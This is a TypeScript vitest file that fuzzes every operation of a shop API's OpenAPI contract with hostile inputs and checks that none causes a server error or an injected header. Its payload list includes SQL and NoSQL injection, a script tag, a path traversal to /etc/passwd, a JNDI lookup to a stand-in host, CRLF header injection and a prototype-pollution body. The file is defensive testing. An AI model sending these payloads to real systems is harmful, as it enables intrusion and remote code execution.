import document from '@shop/contract/openapi.json' with { type: 'json' }
import type { InjectOptions } from 'fastify'
import { expect } from 'vitest'
import { sample } from './accounts.ts'
import { control } from './controls.ts'
import { bearer, it } from './harness.ts'

/** Sent as JSON in bodies, as text in queries, paths and headers. */
const maliciousValues: readonly unknown[] = [
  null,
  -1,
  1e308,
  18_014_398_509_481_984,
  '',
  [],
  [['nested'], { key: {} }],
  { $gt: '' },
  `' OR '1'='1' -- `,
  '<script>alert(1)</script>',
  '../../../../etc/passwd\u0000.png',
  '$\u007bjndi:ldap://foreign-host.example/x}{{7*7}}',
  'value\r\nX-Injected: 1',
  '\ud800 \u202e \u{1f600}',
  'x'.repeat(1_500),
]

const maliciousBodies: readonly string[] = [
  '',
  '{"__proto__":{"isAdmin":true},"constructor":{"prototype":{}}}',
  `${'['.repeat(5_000)}${']'.repeat(5_000)}`,
  '{"unfinished":',
  '\u0000',
]

interface Content {
  readonly schema: unknown
  readonly example?: unknown
}

interface Call {
  readonly operationId: string
  readonly parameters?: readonly { name: string; in: string; example: unknown }[]
  readonly requestBody?: { readonly content: Record<string, Content> }
}

const calls = Object.entries(document.paths).flatMap(([path, methods]) =>
  Object.entries<Call>(methods).map(([method, call]) => ({ path, method, ...call })),
)

type Values = Readonly<Record<string, unknown>>

/** The values of the example, and all that have a malicious value in place of one of them. */
function parametersOf({ parameters = [] }: Call): Values[] {
  const valid = Object.fromEntries(parameters.map(({ name, example }) => [name, example]))
  const wrong = parameters.flatMap(({ name }) =>
    maliciousValues.map((value) => ({ ...valid, [name]: value })),
  )
  return [valid, ...wrong]
}

const asText = (value: unknown): string =>
  typeof value === 'string' ? value : JSON.stringify(value)

/** The example first; then each field of it, at any depth, is replaced or removed. */
function payloadsOf({ content }: NonNullable<Call['requestBody']>): string[] {
  const json = JSON.stringify(content['application/json']?.example ?? {})
  const names = new Set<string>()
  JSON.parse(json, (name) => names.add(name))
  names.delete('')
  const changed = [...names].flatMap((name) =>
    [undefined, ...maliciousValues].map((value) =>
      JSON.stringify(JSON.parse(json, (key, own) => (key === name ? value : own))),
    ),
  )
  const wholeBodies = maliciousValues.map((value) => JSON.stringify(value))
  return [json, ...changed, ...wholeBodies, ...maliciousBodies]
}

it.for(calls)('malicious input is no internal error of $operationId', async (call, { app }) => {
  const { path, method, parameters = [], requestBody } = call
  const send = async (values: Values, payload?: string, type = 'application/json') => {
    await control(app, 'POST', 'reset', { scenario: 'coupon-ready' })
    const valuesIn = (part: string) => {
      const own = parameters.filter((parameter) => parameter.in === part)
      return Object.fromEntries(own.map(({ name }) => [name, asText(values[name])]))
    }
    const { authorisation } = await control(app, 'POST', 'sign-in', { email: sample.email })
    const contentType = payload === undefined ? {} : { 'content-type': type }
    const response = await app.inject({
      method: method.toUpperCase() as NonNullable<InjectOptions['method']>,
      url: path.replace(/\{(\w+)\}/g, (_, name) =>
        encodeURIComponent(asText(values[name]).toWellFormed()),
      ),
      query: valuesIn('query'),
      headers: { ...bearer(authorisation.token), ...valuesIn('header'), ...contentType },
      ...(payload !== undefined && { payload }),
    })
    const description = `${JSON.stringify(values)} ${payload} ${response.body}`
    expect(response.statusCode, description).toBeLessThan(500)
    expect(response.headers).not.toHaveProperty('x-injected')
  }
  const [valid = {}, ...wrong] = parametersOf(call)
  const [payload, ...payloads] = requestBody ? payloadsOf(requestBody) : []
  for (const values of [valid, ...wrong]) await send(values, payload)
  for (const changed of payloads) await send(valid, changed)
  if (requestBody) await send(valid, 'x', 'multipart/form-data; boundary=')
})
